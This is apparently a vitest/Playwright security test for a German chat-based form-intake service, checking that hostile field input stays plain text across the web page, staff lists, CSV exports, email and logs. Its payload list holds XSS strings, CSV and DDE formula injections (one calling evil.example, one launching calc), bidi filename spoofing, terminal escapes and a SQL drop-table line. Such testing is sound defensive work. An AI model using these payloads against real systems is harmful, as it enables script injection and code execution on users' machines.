import { cpSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { type Form, type FormField, loadKnowledge } from "../../src/knowledge/index.js";
import { type MailServer, mailServer, type Received } from "../adapters/email/mail-server.js";
import { openBrowser } from "./browser.js";
import { type Guest, openGuest, openOffice, SEND, seminar } from "./registering.js";
import { freshFolder, project } from "./running-desk.js";

/**
 * What an attacker writes into every field of every form that is shipped, and where it may come out again: as text to
 * those who may read it, and nowhere else.
 */

/** A word that nothing else says: where it stands, something of the answers stands. */
const MARK = "Zitronenfalter";

/** Line texts of at most 200 characters. */
const HOSTILE = [
  `<script>window.stung=1;alert("${MARK}")</script>`,
  `<img src=x onerror="window.stung=2"> ${MARK}`,
  `[${MARK}](javascript:window.stung=3) <a href="javascript:window.stung=3">x</a>`,
  `=HYPERLINK("https://evil.example/?${MARK}","Klick")`,
  `\u200b\u2066=1+cmd|'/C calc'!A0 ${MARK}`,
  `+49@SUM(1;2) ${MARK}`,
  `\u202e${MARK} gpj.exe\u202c \u2067abc\u2069`,
  `${MARK} 👩‍👩‍👧‍👦🇩🇪 \u200b\u200c\u200d\ufeff Ä\u0308\u0300\u0301 ﷽`,
  `\u001b[31m\u001b]0;${MARK}\u0007\u009b2J rot`,
  `BEGIN:VEVENT ${MARK} END:VCALENDAR {office.email} **{reference}** $& \${1}`,
  `${MARK}'; drop table submission; -- " \\ ; , | \t tab`,
] as const;
/** Of the longest answer there is: 2,000 characters. */
const LONG = `${HOSTILE.join("\n")}\n`
  .padEnd(2_000, `<b onclick=alert(1)>${MARK}</b> `)
  .slice(0, 2_000)
  .trim();

/** What no terminal may get to see. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
const OBEYED = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u202a-\u202e\u2066-\u2069\ufeff]/u;

const { knowledge } = loadKnowledge(join(project, "intents"), { createdOn: "2026-11-23" });
const forms = [...knowledge.forms.values()];

let place: ReturnType<typeof freshFolder>;
let post: MailServer;
let office: Awaited<ReturnType<typeof openOffice>>;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let complaints: string[] = [];

beforeAll(async () => {
  place = freshFolder();
  // mail is on, so that an enquiry to a body outside is offered
  post = await mailServer({ hideSTARTTLS: true });
  office = await openOffice(place.folder, {
    LOG_LEVEL: "info",
    SMTP_URL: `smtp://127.0.0.1:${post.port}`,
    MAIL_FROM: "desk@musterstadt.example",
  });
  await office.staff("staff", "add", "Anna Beispiel");
  lettersGoOutside(office.dir);
  await office.desk.stop();
  office.write(seminar({ seats: 99 }));
  await office.begin();
  browser = await openBrowser();
});
afterAll(async () => {
  await browser?.close();
  await office?.desk.stop();
  await post?.close();
  place?.remove();
});
beforeEach(() => {
  complaints = [];
});
afterEach(async () => {
  await context?.close();
});

/** The chat page of this guest, in which nothing may happen but text. */
async function watch(guest: Guest): Promise<void> {
  context = await browser.newContext({ locale: "de-DE" });
  await context.addCookies([{ name: "nahtstelle", value: guest.session, url: office.desk.url }]);
  page = await context.newPage();
  page.on("pageerror", (error) => complaints.push(String(error)));
  page.on("console", (line) => {
    if (line.type() === "error") complaints.push(line.text());
  });
  page.on("dialog", (dialog) => {
    complaints.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(`${office.desk.url}/`)) complaints.push(`asked for ${request.url()}`);
  });
  await page.goto(`${office.desk.url}/?lang=de`);
  await page.locator('#log[aria-live="polite"]').waitFor({ state: "attached" });
}

/** Nothing of what was entered has become more than text, and each answer can be read as it was written. */
async function expectOnlyText(written: readonly string[]): Promise<void> {
  const log = page.locator("#messages");
  await expect.poll(async () => squeezed((await log.textContent()) ?? "").includes("Absenden")).toBe(true);
  const shown = squeezed((await log.textContent()) ?? "");
  for (const answer of written) expect(shown).toContain(squeezed(answer));
  expect(
    await log.locator("script, img, iframe, object, embed, style, form, [onclick], [onerror]").count(),
  ).toBe(0);
  const targets = await log
    .locator("a")
    .evaluateAll((links) => links.map((link) => link.getAttribute("href")));
  expect(targets.filter((target) => !/^(https?:|mailto:|tel:|\/)/.test(target ?? ""))).toEqual([]);
  expect(await page.evaluate("window.stung")).toBeUndefined();
  expect(complaints).toEqual([]);
}

function squeezed(text: string): string {
  // what the desk does not keep: control characters, and which white space it was
  // biome-ignore lint/suspicious/noControlCharactersInRegex: see above
  return text.replace(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/gu, "").replace(/\s+/gu, "");
}

/** Goes through a form; into every field what is hostile first. @returns what was taken as an answer. */
async function fillIn(guest: Guest, form: Form, first: number): Promise<string[]> {
  const chosen: Record<string, string> = {};
  const taken: string[] = [];
  await open(guest, form);
  for (const [index, field] of form.fields.entries()) {
    if (field.when && !field.when.is.includes(chosen[field.when.field] ?? "")) continue;
    const option = field.options[0];
    if (field.kind === "choice" && option) {
      await answer(guest, HOSTILE[index % HOSTILE.length] ?? "");
      chosen[field.id] = option.id;
      await guest.press(new RegExp(`^${option.label.de}$`), /\S/);
      continue;
    }
    for (const text of hostileFor(field, first + index)) {
      await answer(guest, text);
      if (field.kind === "text" || field.kind === "long-text") taken.push(text);
    }
    const valid = validFor(field);
    if (valid !== null) {
      await answer(guest, valid);
      taken.push(field.kind === "name" ? valid : "");
    }
  }
  return taken.filter(Boolean);
}

/** Opens a form as its guests do: one to a body outside where that is responsible, the others by a link. */
async function open(guest: Guest, form: Form): Promise<void> {
  if (form.opens !== "partner") {
    await guest.act(form.booking ? "~register:brand" : `~form:${form.id}`, /Abbrechen|\?/);
    return;
  }
  await guest.write("Wann haben Sie geöffnet?", /Uhr/);
  await guest.act("~person", /außerhalb/);
  await guest.press(/^Anfrage an: /, /Einwilligung/);
}

/** Staff save that a chamber with an e-mail address is responsible for the first answer there is. */
function lettersGoOutside(dir: string): void {
  const change = (file: string, from: RegExp, to: string): void => {
    const before = readFileSync(join(dir, file), "utf8");
    expect(before).toMatch(from);
    writeFileSync(join(dir, file), before.replace(from, to));
  };
  change("partners.yaml", /(- id: ihk\n(?:.*\n)*?.*email: )null/, "$1chamber@beispiel.example");
  change("faq/office-contact.yaml", /responsible: office-desk/, "responsible: ihk");
  cpSync(join(project, "intents/handover.yaml"), join(dir, "handover.yaml"));
}

/** Writes, and says that it was the answer where the desk takes it for a question. */
async function answer(guest: Guest, text: string): Promise<void> {
  await guest.write(text, /\S/);
  await office.quiet();
  const labels = (guest.messages().at(-1)?.buttons ?? []).map(({ label }) => label);
  if (labels.includes("Das war meine Antwort")) await guest.press(/^Das war meine Antwort$/, /\S/);
}

function hostileFor({ kind }: FormField, turn: number): readonly string[] {
  switch (kind) {
    case "long-text":
      return [LONG];
    case "text":
      return [HOSTILE[turn % HOSTILE.length] ?? ""];
    case "email":
      return [`"<script>alert(1)</script>${MARK}"@beispiel.example`, `=cmd|${MARK}`];
    default:
      return [`<script>window.stung=4</script>${MARK}`, `\u202e=${MARK}`];
  }
}

/** Something that the field takes, as wicked as it can be; null where the hostile text was taken already. */
function validFor({ kind }: FormField): string | null {
  switch (kind) {
    case "name":
      return `Dr. Örjan O’${MARK}-D'Arc (Muster)`;
    case "email":
      return `${MARK.toLowerCase()}+x@beispiel.example`;
    case "phone":
      return "+49 30 901820";
    case "date":
      return "in zwei Wochen";
    default:
      return null;
  }
}

describe.each(forms.map((form, index) => ({ id: form.id, form, index })))(
  "hostile text in the form $id",
  ({ form, index }) => {
    it("stays text wherever it is read, and stands nowhere else", async () => {
      const guest = await openGuest(office.desk.url);
      await watch(guest);
      const taken = await fillIn(guest, form, index * 3);
      expect(taken.length).toBeGreaterThan(0);
      await guest.hears(/Bitte prüfen Sie Ihre Angaben/);
      await expectOnlyText(taken);
      await page.reload();
      await page.locator('#log[aria-live="polite"]').waitFor({ state: "attached" });
      await expectOnlyText(taken);

      const confirmed = await guest.press(SEND, new RegExp(`${form.letter}-[2-9A-Z]{4,}`));
      const reference = new RegExp(`${form.letter}-[2-9A-Z]{4,}`).exec(confirmed)?.[0] ?? "";

      const shown = await office.staff("forms", "show", reference);
      const [stored] = (await office.staff("forms", "list", "--form", form.id, "--json"))
        .split("\n")
        .filter(Boolean)
        .map((line) => JSON.parse(line) as { answers: { value: string | null }[] });
      const values = stored?.answers.map(({ value }) => squeezed(value ?? "")) ?? [];
      for (const text of taken) expect(values).toContain(squeezed(text));
      expect(shown).toContain(MARK);
      const lists = [shown, await office.staff("forms", "list")];
      if (form.booking) lists.push(await office.staff("seminars", "brand"));
      for (const list of lists) {
        expect(list).toContain(reference);
        expect(list.split("\n").filter((line) => OBEYED.test(line))).toEqual([]);
      }
      const tables = [await office.staff("forms", "list", "--csv")];
      if (form.booking) tables.push(await office.staff("seminars", "brand", "--csv"));
      for (const table of tables) {
        expect(table).toContain(MARK);
        expect(cellsOf(table).filter(isComputed)).toEqual([]);
      }

      if (form.opens === "partner") {
        const letter = await received(reference);
        expect(letter.to).toEqual(["chamber@beispiel.example"]);
        for (const one of taken) expect(squeezed(letter.text)).toContain(squeezed(one));
        expect(letter.names.filter((name) => !HEADERS.includes(name))).toEqual([]);
      }

      const text = await (await guest.download("format=text&lang=de")).text();
      expect(text).toContain(MARK);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
      expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/u);
      const json = await (await guest.download("format=json")).json();
      for (const one of taken) expect(squeezed(spoken(json))).toContain(squeezed(one));

      expect(await office.staff("log", "--last", "500")).not.toContain(MARK);
      expect(await office.staff("log", "--last", "500", "--json")).not.toContain(MARK);
      expect(office.desk.output()).not.toMatch(new RegExp(MARK, "i"));
      guest.leave();
    }, 120_000);
  },
);

it("leaves nothing of all that in clear in the data folder", () => {
  const data = join(place.folder, "data");
  const files = readdirSync(data).map((name) => ({ name, bytes: readFileSync(join(data, name)) }));
  expect(files.map(({ name }) => name)).toContain("nahtstelle.db");
  for (const { name, bytes } of files)
    for (const word of [MARK, MARK.toLowerCase(), "HYPERLINK", "901820", "window.stung", "javascript:"])
      expect([name, word, bytes.includes(word)]).toEqual([name, word, false]);
});

/** The headers of a letter from the desk: there is no way to add one. */
const HEADERS = [
  ...["from", "to", "reply-to", "subject", "date", "message-id", "mime-version"],
  ...["content-type", "content-transfer-encoding", "content-language", "auto-submitted"],
];

/** The letter that names this reference. */
async function received(reference: string): Promise<Received> {
  const named = (): Received | undefined =>
    post.mails.find(({ headers }) => headers["subject"]?.includes(reference));
  await expect.poll(named, { timeout: 20_000 }).toBeDefined();
  const found = named();
  if (!found) throw new Error(`There is no letter about ${reference}.`);
  return found;
}

/** The cells of a table with semicolons, quotation marks undone (RFC 4180). */
function cellsOf(table: string): string[] {
  const cells = [...table.replace(/^\ufeff/, "").matchAll(/(?:^|;|\r\n)(?:"((?:[^"]|"")*)"|([^;"\r\n]*))/g)];
  return cells.map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? "");
}

/** A spreadsheet would take it for a formula. Programs look past characters without a shape. */
function isComputed(cell: string): boolean {
  return /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u.test(cell);
}

/** All strings in what a download says. */
function spoken(value: unknown): string {
  if (typeof value === "string") return value;
  return typeof value === "object" && value !== null ? Object.values(value).map(spoken).join("\n") : "";
}
